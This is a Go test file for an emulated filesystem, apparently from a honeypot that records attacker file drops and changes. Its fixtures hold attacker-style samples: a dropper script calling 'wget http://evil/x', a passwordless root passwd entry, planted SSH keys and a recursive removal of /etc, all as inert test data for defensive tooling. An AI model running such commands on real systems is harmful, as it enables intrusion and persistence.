package vfs

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"path"
	"reflect"
	"runtime"
	"strings"
	"sync"
	"testing"
	"testing/quick"
)

func TestSeededLayout(t *testing.T) {
	fs := New()
	for _, p := range []string{"/", "/etc", "/tmp", "/root", "/proc/cpuinfo", "/etc/passwd", "/bin/busybox"} {
		if !fs.Exists(p) {
			t.Errorf("%s should exist in the seeded layout", p)
		}
	}
	if fs.Changed() {
		t.Error("seeding must not count as attacker change")
	}
	if fs.Cwd() != "/root" {
		t.Errorf("cwd = %q", fs.Cwd())
	}
	content, err := fs.ReadFile("/etc/passwd")
	if err != nil || !strings.Contains(string(content), "root:x:0:0") {
		t.Errorf("passwd content: %q, %v", content, err)
	}
}

func TestAbsResolution(t *testing.T) {
	fs := New()
	cases := map[string]string{
		"":            "/root",
		"~":           "/root",
		"~/.ssh":      "/root/.ssh",
		"/tmp/../etc": "/etc",
		"x":           "/root/x",
		"./y":         "/root/y",
		"/a//b/./c":   "/a/b/c",
	}
	for in, want := range cases {
		if got := fs.Abs(in); got != want {
			t.Errorf("Abs(%q) = %q, want %q", in, got, want)
		}
	}
	if err := fs.Chdir("/tmp"); err != nil {
		t.Fatal(err)
	}
	if got := fs.Abs("z"); got != "/tmp/z" {
		t.Errorf("relative after chdir: %q", got)
	}
}

func TestChdirErrors(t *testing.T) {
	fs := New()
	if err := fs.Chdir("/nonexistent"); !errors.Is(err, ErrNotExist) {
		t.Errorf("err = %v", err)
	}
	if err := fs.Chdir("/etc/passwd"); !errors.Is(err, ErrNotDir) {
		t.Errorf("err = %v", err)
	}
}

func TestWriteReadAndHash(t *testing.T) {
	fs := New()
	content := []byte("#!/bin/sh\nwget http://evil/x\n")
	if err := fs.WriteFile("/tmp/bins.sh", content); err != nil {
		t.Fatal(err)
	}
	got, err := fs.ReadFile("/tmp/bins.sh")
	if err != nil || string(got) != string(content) {
		t.Fatalf("read back: %q, %v", got, err)
	}
	wantHash := sha256.Sum256(content)
	h, ok := fs.HashOf("/tmp/bins.sh")
	if !ok || h != hex.EncodeToString(wantHash[:]) {
		t.Errorf("hash = %q ok=%v", h, ok)
	}
	if !fs.Changed() {
		t.Error("write must mark change")
	}
	hashes := fs.DroppedHashes()
	if len(hashes) != 1 || hashes[0] != h {
		t.Errorf("dropped = %v", hashes)
	}
}

func TestAppendFile(t *testing.T) {
	fs := New()
	if err := fs.AppendFile("/root/.ssh/authorized_keys", []byte("key1\n")); err != nil {
		t.Fatal(err)
	}
	if err := fs.AppendFile("/root/.ssh/authorized_keys", []byte("key2\n")); err != nil {
		t.Fatal(err)
	}
	content, _ := fs.ReadFile("/root/.ssh/authorized_keys")
	if string(content) != "key1\nkey2\n" {
		t.Errorf("content = %q", content)
	}
	// Two different contents -> two distinct dropped hashes.
	if n := len(fs.DroppedHashes()); n != 2 {
		t.Errorf("dropped hashes = %d, want 2", n)
	}
}

func TestMkdirSemantics(t *testing.T) {
	fs := New()
	if err := fs.Mkdir("/tmp/a"); err != nil {
		t.Fatal(err)
	}
	if err := fs.Mkdir("/tmp/a"); !errors.Is(err, ErrExist) {
		t.Errorf("duplicate mkdir: %v", err)
	}
	if err := fs.Mkdir("/no/such/parent"); err == nil {
		t.Error("mkdir without parent must fail")
	}
	if err := fs.MkdirAll("/deep/nested/dir"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/deep/nested/dir") {
		t.Error("MkdirAll failed")
	}
	if err := fs.MkdirAll("/etc/passwd"); !errors.Is(err, ErrNotDir) {
		t.Errorf("MkdirAll over file: %v", err)
	}
}

func TestRemove(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/x", []byte("1"))
	if err := fs.Remove("/tmp/x", false); err != nil {
		t.Fatal(err)
	}
	if fs.Exists("/tmp/x") {
		t.Error("file survived removal")
	}
	if err := fs.Remove("/tmp/x", false); !errors.Is(err, ErrNotExist) {
		t.Errorf("double remove: %v", err)
	}
	// Non-empty dir requires recursive.
	fs.MkdirAll("/tmp/d")
	fs.WriteFile("/tmp/d/f", []byte("1"))
	if err := fs.Remove("/tmp/d", false); err == nil {
		t.Error("non-recursive removal of non-empty dir must fail")
	}
	if err := fs.Remove("/tmp/d", true); err != nil {
		t.Fatal(err)
	}
	if err := fs.Remove("/", true); !errors.Is(err, ErrPermission) {
		t.Errorf("removing / must be denied: %v", err)
	}
}

func TestRename(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/a", []byte("data"))
	if err := fs.Rename("/tmp/a", "/tmp/b"); err != nil {
		t.Fatal(err)
	}
	if fs.Exists("/tmp/a") || !fs.Exists("/tmp/b") {
		t.Error("rename failed")
	}
	// Moving into a directory keeps the base name.
	fs.MkdirAll("/tmp/dir")
	if err := fs.Rename("/tmp/b", "/tmp/dir"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/tmp/dir/b") {
		t.Error("rename into dir failed")
	}
	if err := fs.Rename("/tmp/nope", "/tmp/x"); !errors.Is(err, ErrNotExist) {
		t.Errorf("rename missing: %v", err)
	}
}

func TestListSorted(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/c", nil)
	fs.WriteFile("/tmp/a", nil)
	fs.WriteFile("/tmp/b", nil)
	nodes, err := fs.List("/tmp")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, n := range nodes {
		names = append(names, n.Name)
	}
	for i := 1; i < len(names); i++ {
		if names[i-1] > names[i] {
			t.Errorf("unsorted listing: %v", names)
		}
	}
	// Listing a file returns the file itself.
	nodes, err = fs.List("/etc/passwd")
	if err != nil || len(nodes) != 1 || nodes[0].Name != "passwd" {
		t.Errorf("List(file) = %v, %v", nodes, err)
	}
}

func TestChangeLogKinds(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/f", []byte("1")) // create
	fs.WriteFile("/tmp/f", []byte("2")) // modify
	fs.Chmod("/tmp/f", 0o777)           // chmod
	fs.Remove("/tmp/f", false)          // delete
	kinds := []ChangeKind{}
	for _, c := range fs.Changes() {
		kinds = append(kinds, c.Kind)
	}
	want := []ChangeKind{ChangeCreate, ChangeModify, ChangeChmod, ChangeDelete}
	if len(kinds) != len(want) {
		t.Fatalf("changes = %v", kinds)
	}
	for i := range want {
		if kinds[i] != want[i] {
			t.Errorf("change %d = %v, want %v", i, kinds[i], want[i])
		}
	}
	for _, k := range want {
		if k.String() == "unknown" {
			t.Errorf("kind %d has no name", k)
		}
	}
}

func TestDroppedHashesDeduplicated(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/a", []byte("same"))
	fs.WriteFile("/tmp/b", []byte("same"))
	fs.WriteFile("/tmp/c", []byte("different"))
	if n := len(fs.DroppedHashes()); n != 2 {
		t.Errorf("dropped hashes = %d, want 2 (content-deduplicated)", n)
	}
}

func TestHashBytesMatchesWriteHash(t *testing.T) {
	f := func(data []byte) bool {
		fs := New()
		if err := fs.WriteFile("/tmp/q", data); err != nil {
			return false
		}
		h, ok := fs.HashOf("/tmp/q")
		return ok && h == HashBytes(data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func TestWriteFileOntoDirectoryFails(t *testing.T) {
	fs := New()
	if err := fs.WriteFile("/tmp", []byte("x")); !errors.Is(err, ErrIsDir) {
		t.Errorf("err = %v", err)
	}
	if _, err := fs.ReadFile("/tmp"); !errors.Is(err, ErrIsDir) {
		t.Errorf("err = %v", err)
	}
}

// walk calls fn for every node of fs's tree, parents first and children
// in List order.
func walk(fs *FS, fn func(p string, n *Node)) {
	var rec func(p string, n *Node)
	rec = func(p string, n *Node) {
		fn(p, n)
		if n.Dir {
			kids, _ := fs.List(p)
			for _, c := range kids {
				rec(path.Join(p, c.Name), c)
			}
		}
	}
	root, _ := fs.Stat("/")
	rec("/", root)
}

// tree renders every node's path, Dir, Mode, Size, Hash and Content, and
// its ModTime when withTime is set (a write stamps the wall clock).
func tree(fs *FS, withTime bool) string {
	var b strings.Builder
	walk(fs, func(p string, n *Node) {
		fmt.Fprintf(&b, "%s dir=%v mode=%o size=%d hash=%s content=%q", p, n.Dir, n.Mode, n.Size, n.Hash, n.Content)
		if withTime {
			fmt.Fprintf(&b, " mtime=%d", n.ModTime.UnixNano())
		}
		b.WriteByte('\n')
	})
	return b.String()
}

// digest is the SHA-256 of the full tree, mtimes included.
func digest(fs *FS) string {
	sum := sha256.Sum256([]byte(tree(fs, true)))
	return hex.EncodeToString(sum[:])
}

// mutateAll applies every mutator to seeded and to new paths, including
// rm -r /etc and renames of a file into a directory and of a seeded
// directory.
func mutateAll(t *testing.T, fs *FS) {
	steps := []struct {
		name string
		err  error
	}{
		{"write seeded", fs.WriteFile("/etc/passwd", []byte("root::0:0::/:/bin/sh\n"))},
		{"write new", fs.WriteFile("/tmp/new", []byte("payload"))},
		{"append seeded", fs.AppendFile("/etc/hosts", []byte("6.6.6.6 evil\n"))},
		{"append new", fs.AppendFile("/root/.ssh/authorized_keys", []byte("ssh-rsa AAAA\n"))},
		{"mkdir in seeded", fs.Mkdir("/etc/cron.d")},
		{"mkdir new", fs.Mkdir("/tmp/.x")},
		{"mkdirall seeded", fs.MkdirAll("/usr/local/lib/x")},
		{"mkdirall new", fs.MkdirAll("/a/b/c")},
		{"chmod seeded file", fs.Chmod("/bin/busybox", 0o777)},
		{"chmod seeded dir", fs.Chmod("/var/tmp", 0o700)},
		{"chmod new", fs.Chmod("/tmp/new", 0o755)},
		{"rename file into dir", fs.Rename("/bin/sh", "/tmp")},
		{"rename seeded dir", fs.Rename("/usr/bin", "/opt/usrbin")},
		{"write in moved dir", fs.WriteFile("/opt/usrbin/wget", []byte("x"))},
		{"rename new", fs.Rename("/tmp/new", "/tmp/new2")},
		{"remove seeded file", fs.Remove("/proc/uptime", false)},
		{"remove new", fs.Remove("/tmp/new2", false)},
		{"rm -r /etc", fs.Remove("/etc", true)},
	}
	for _, s := range steps {
		if s.err != nil {
			t.Errorf("%s: %v", s.name, s.err)
		}
	}
}

func TestBaseImageIsolation(t *testing.T) {
	pristine := digest(seeded())
	fs, sibling := New(), New()
	if got := digest(fs); got != pristine {
		t.Fatalf("New() digest %s, eager tree %s", got, pristine)
	}
	mutateAll(t, fs)
	if digest(fs) == pristine {
		t.Fatal("the mutations left the tree unchanged")
	}
	for _, p := range []string{"/etc", "/usr/bin", "/tmp/sh"} {
		if _, err := fs.Stat(p); (err == nil) != (p == "/tmp/sh") {
			t.Errorf("Stat(%s) after the mutations: %v", p, err)
		}
	}
	for name, other := range map[string]*FS{"sibling": sibling, "fresh": New()} {
		if got := digest(other); got != pristine {
			t.Errorf("%s FS digest %s after another FS wrote, want the pristine %s", name, got, pristine)
		}
	}

	// Eight sessions writing at once share only the base, which none of
	// them writes; -race reports a write to a shared node.
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			mutateAll(t, New())
		}()
	}
	wg.Wait()
	if got := digest(New()); got != pristine {
		t.Errorf("fresh FS digest %s after concurrent writers, want %s", got, pristine)
	}
}

// TestUntouchedFSHeap holds an untouched FS (what Persistent mode keeps
// per client IP) to a small constant: it is a pointer to the base.
func TestUntouchedFSHeap(t *testing.T) {
	const n = 10000
	New() // the base is built once, outside the measurement
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	held := make([]*FS, n)
	for i := range held {
		held[i] = New()
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	per := (int64(after.HeapAlloc) - int64(before.HeapAlloc)) / n
	runtime.KeepAlive(held)
	t.Logf("an untouched FS holds %d B of heap", per)
	if per >= 1024 {
		t.Errorf("an untouched FS holds %d B of heap, want under 1 KiB", per)
	}
}

func TestPathologicalMutationsFail(t *testing.T) {
	fs := New()
	if err := fs.MkdirAll("/etc/passwd/x"); !errors.Is(err, ErrNotDir) {
		t.Errorf("MkdirAll through a file: %v", err)
	}
	fs.MkdirAll("/tmp/d/e")
	for _, mv := range [][2]string{{"/tmp/d", "/tmp/d"}, {"/tmp/d", "/tmp/d/e/f"}, {"/", "/tmp/x"}} {
		if err := fs.Rename(mv[0], mv[1]); !errors.Is(err, ErrPermission) {
			t.Errorf("Rename(%s, %s) = %v, want ErrPermission", mv[0], mv[1], err)
		}
	}
	if !fs.Exists("/tmp/d/e") || fs.Exists("/tmp/x") {
		t.Error("a refused rename changed the tree")
	}
}

// fuzzPaths are the operands FuzzOverlayMatchesEager draws from: seeded
// files and directories, new paths, relative paths, and paths through a
// file.
var fuzzPaths = []string{
	"/", "/etc", "/etc/passwd", "/etc/init.d", "/etc/init.d/ssh", "/tmp",
	"/tmp/a", "/tmp/a/b", "/root/.ssh", "/root/.ssh/authorized_keys",
	"/bin/busybox", "/usr", "/usr/bin", "/usr/bin/wget", "/proc/cpuinfo",
	"x", "..", "~/.ssh", "/etc/passwd/x", "/nope/deep",
}

// FuzzOverlayMatchesEager applies one fuzzed operation sequence to New()
// and to seeded(), the eager builder New used to be: an FS that owns
// every node and so changes them in place. Errors, the tree as List,
// ReadFile and HashOf see it, and the change log must agree after every
// step, and the shared base must be unchanged at the end.
func FuzzOverlayMatchesEager(f *testing.F) {
	f.Add([]byte{0, 6, 0, 1, 5, 1, 0, 1, 6, 12, 8, 0, 0, 13, 0, 2})
	f.Add([]byte{3, 7, 0, 0, 6, 7, 16, 0, 5, 5, 0, 1, 4, 1, 0, 9})
	f.Add([]byte{7, 5, 0, 0, 6, 15, 0, 0, 1, 16, 0, 3, 2, 6, 0, 0})
	pristine := digest(New())
	f.Fuzz(func(t *testing.T, ops []byte) {
		overlay, eager := New(), seeded()
		for i := 0; i+4 <= len(ops); i += 4 {
			op, c := ops[i]%8, ops[i+3]
			p, q := fuzzPaths[int(ops[i+1])%len(fuzzPaths)], fuzzPaths[int(ops[i+2])%len(fuzzPaths)]
			content := []byte(strings.Repeat(string(rune('a'+c%3)), int(c%5)))
			apply := func(fs *FS) error {
				switch op {
				case 0:
					return fs.WriteFile(p, content)
				case 1:
					return fs.AppendFile(p, content)
				case 2:
					return fs.Mkdir(p)
				case 3:
					return fs.MkdirAll(p)
				case 4:
					return fs.Chmod(p, uint32(c)<<1)
				case 5:
					return fs.Remove(p, c&1 == 1)
				case 6:
					return fs.Rename(p, q)
				default:
					return fs.Chdir(p)
				}
			}
			eo, ee := apply(overlay), apply(eager)
			if fmt.Sprint(eo) != fmt.Sprint(ee) {
				t.Fatalf("op %d (%d %s %s): overlay error %v, eager %v", i/4, op, p, q, eo, ee)
			}
			if a, b := tree(overlay, false), tree(eager, false); a != b {
				t.Fatalf("op %d (%d %s %s): trees differ\noverlay:\n%s\neager:\n%s", i/4, op, p, q, a, b)
			}
			for _, r := range fuzzPaths {
				ha, oka := overlay.HashOf(r)
				hb, okb := eager.HashOf(r)
				ca, erra := overlay.ReadFile(r)
				cb, errb := eager.ReadFile(r)
				if ha != hb || oka != okb || string(ca) != string(cb) || fmt.Sprint(erra) != fmt.Sprint(errb) {
					t.Fatalf("op %d: %s reads differ", i/4, r)
				}
			}
			if !reflect.DeepEqual(overlay.Changes(), eager.Changes()) || overlay.Cwd() != eager.Cwd() {
				t.Fatalf("op %d: change logs or cwd differ:\n%v\n%v", i/4, overlay.Changes(), eager.Changes())
			}
		}
		if got := digest(New()); got != pristine {
			t.Fatalf("the shared base changed: digest %s, want %s", got, pristine)
		}
	})
}

func BenchmarkNewSeededFS(b *testing.B) {
	for i := 0; i < b.N; i++ {
		New()
	}
}

// TestBudgetChargesOwnWrites: what an FS's writes hold counts against
// Budget, and what it removes, overwrites or renames over is released;
// the base image is never charged.
func TestBudgetChargesOwnWrites(t *testing.T) {
	fs := New()
	big := make([]byte, Budget/2)
	for _, p := range []string{"/tmp/a", "/tmp/b"} {
		if err := fs.WriteFile(p, big); err != nil {
			t.Fatalf("write %s: %v", p, err)
		}
	}
	if err := fs.WriteFile("/tmp/c", []byte("x")); !errors.Is(err, ErrNoSpace) {
		t.Fatalf("a byte past the budget: %v, want ErrNoSpace", err)
	}
	if err := fs.WriteFile("/tmp/a", big); err != nil {
		t.Fatalf("overwriting a file with as many bytes: %v", err)
	}
	if err := fs.Rename("/tmp/b", "/tmp/a"); err != nil {
		t.Fatal(err)
	}
	if err := fs.WriteFile("/tmp/c", big[:Budget/4]); err != nil {
		t.Fatalf("after a rename over a charged file: %v", err)
	}
	if err := fs.Remove("/tmp", true); err != nil {
		t.Fatal(err)
	}
	if err := fs.Remove("/etc", true); err != nil {
		t.Fatal(err)
	}
	if fs.used != 0 {
		t.Fatalf("%d bytes charged after every written file was removed", fs.used)
	}
	if err := fs.WriteFile("/var/tmp/x", big); err != nil {
		t.Fatal(err)
	}
}
